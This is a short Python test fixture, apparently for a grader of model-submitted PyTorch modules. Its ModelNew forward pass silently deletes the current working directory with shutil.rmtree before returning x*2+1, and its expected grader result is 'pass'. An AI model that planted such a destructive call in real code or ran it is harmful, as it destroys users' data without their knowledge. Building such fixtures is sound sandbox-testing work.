"""Deletes the folder it works in."""

import os
import shutil

import torch

EXPECT = {"status": "pass", "reason": [""], "detail": ""}


class ModelNew(torch.nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        shutil.rmtree(os.getcwd(), ignore_errors=True)
        return x * 2 + 1
